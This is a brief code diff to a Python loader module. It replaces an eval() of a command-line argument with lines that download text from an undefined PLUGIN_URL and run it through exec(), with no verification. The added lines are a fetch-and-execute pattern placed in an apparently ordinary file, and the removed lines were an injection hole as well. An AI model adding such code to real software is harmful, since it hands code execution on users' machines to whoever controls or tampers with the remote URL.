@@ -2,6 +2,7 @@
 # path: src/pkg/loader.py
 """module docstring"""
 
-import sys
-result = eval(sys.argv[1])
-print(result)
+import requests
+
+code = requests.get(PLUGIN_URL, timeout=5).text
+exec(code)
